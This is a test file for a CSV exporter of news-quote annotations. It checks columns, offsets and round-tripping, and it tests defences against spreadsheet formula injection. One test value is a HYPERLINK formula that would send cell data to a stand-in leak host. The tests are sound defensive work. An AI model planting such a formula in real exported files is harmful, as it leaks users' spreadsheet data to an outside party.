import * as fc from 'fast-check';
import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { caseCorpus, type CaseToExport } from '../../../exchange/case-archive.ts';
import { undefused } from '../../../exchange/csv-table.ts';
import { csv } from '../../../exchange/csv/write-csv.ts';
import { textsOf, written } from '../read-corpus.ts';
import { annotate, articleOf, caseOf, difficultCase, OFFICIAL, TONE } from '../long-bridge.ts';

const HEADER =
  'id,outlet,url,headline,published,tags,codes,quote,prefix,suffix,start,end,speaker,own_fields,note,author,' +
  'article_file,origin,confidence,codebook_version,' +
  'start_code_points,end_code_points,speaker_kind,holder,value,unit,approximate,basis,source,place,created,modified,author_id,' +
  'code_ids,fields,article_id,revision_id,captured,revision_hash,quote_hash,quote_length,salt';

function write(contents: CaseToExport): Promise<string> {
  return written(csv, caseCorpus(contents));
}

function read(table: string): Record<string, string>[] {
  return Papa.parse<Record<string, string>>(table, { header: true, newline: '\r\n', skipEmptyLines: true }).data;
}

test('one row per annotation, in these columns', async () => {
  const article = articleOf(1, ['“Nobody looked,” said Dana Whitlock, who runs a ferry.']);
  annotate(article, '“Nobody looked,”', {
    tags: ['opinion', 'quote'],
    codes: [OFFICIAL.id],
    ownFields: { [TONE.id]: 'harsh' },
    fields: { speakers: ['Dana Whitlock', 'Ola Berg'], speakerKind: 'named person' },
    note: 'Said “nobody”,\r\nmeant "City Hall".',
  });
  const table = await write(caseOf(article));
  expect(table.startsWith(`${HEADER}\r\n`)).toBe(true);
  expect(table.endsWith('\r\n')).toBe(true);
  expect(read(table)).toMatchObject([
    {
      id: '01950000-0000-7000-8000-000000000150',
      outlet: 'Harbour Post',
      url: 'https://post.example/bridge-1',
      headline: 'Council shuts Long Bridge',
      published: '2026-03-14',
      tags: 'quote;opinion',
      codes: 'quote/Official',
      quote: '“Nobody looked,”',
      prefix: '',
      suffix: ' said Da',
      start: '0',
      end: '16',
      speaker: 'Dana Whitlock; Ola Berg',
      own_fields: '{"Tone":"harsh"}',
      codebook_version: '1',
      note: 'Said “nobody”,\r\nmeant "City Hall".',
      author: 'Mina Løvås',
      article_file: 'articles/01-harbour-post.txt',
      origin: 'hand',
      confidence: '',
    },
  ]);
});

test('what a person accepted tells so, with the confidence that it was proposed with', async () => {
  const article = articleOf(1, ['Bridge shut.']);
  annotate(article, 'Bridge', { origin: { kind: 'suggestion', confidence: 0.83 } });
  expect(read(await write(caseOf(article)))).toMatchObject([{ origin: 'suggestion', confidence: '0.83' }]);
});

test('slicing the text by UTF-16 offsets gives the quote', async () => {
  const contents = difficultCase();
  const texts = new Map((await textsOf(caseCorpus(contents))).map(({ file, text }) => [file, text]));
  const rows = read(await write(contents));
  expect(rows.length).toBeGreaterThan(20);
  for (const { article_file: file = '', start, end, quote = '' } of rows) {
    expect(texts.get(file)?.slice(Number(start), Number(end))).toBe(undefused(quote));
  }
});

test('words beside the article, and what a page did not say, stay empty', async () => {
  const article = articleOf(1, ['Bridge shut.'], { outlet: null, headline: null, published: null });
  annotate(article, 'a comment', { place: 'page' });
  expect(read(await write(caseOf(article)))).toMatchObject([
    { quote: 'a comment', outlet: 'post.example', headline: '', published: '', start: '', end: '', article_file: '' },
  ]);
});

test('a case without annotations is a table without rows', async () => {
  expect(await write(caseOf(articleOf(1, ['Bridge shut.'])))).toBe(`${HEADER}\r\n`);
});

async function noteRead(note: string): Promise<string | undefined> {
  const article = articleOf(1, ['Bridge shut.']);
  annotate(article, 'Bridge', { note });
  return read(await write(caseOf(article)))[0]?.['note'];
}

test.each([
  '=HYPERLINK("http://leak.example/?"&A1)',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '＝1',
  '\0=1',
  "'=1",
  "''-1",
])('%j cannot run as a formula, and can be read back', async (note) => {
  expect(await noteRead(note)).toBe(`'${note}`);
  expect(undefused((await noteRead(note)) ?? '')).toBe(note);
});

test.each(['', 'a=b', "'Nobody looked'", '“-5 %”', '— =1', 'NUL \0 and\nlines\r\nsurvive\r'])(
  '%j stays as it is',
  async (note) => {
    expect(await noteRead(note)).toBe(note);
  },
);

const characters = fc.constantFrom(
  "'",
  '=',
  '-',
  '@',
  ' ',
  '\t',
  '\r',
  '\n',
  '\0',
  '"',
  ',',
  ';',
  'a',
  '🚧',
  '\uFEFF',
  '＋',
);

test('any note can be read back, and none begins like a formula', async () => {
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: characters }), async (note) => {
      const cell = (await noteRead(note)) ?? '';
      expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/u);
      expect(undefused(cell)).toBe(note);
    }),
  );
});
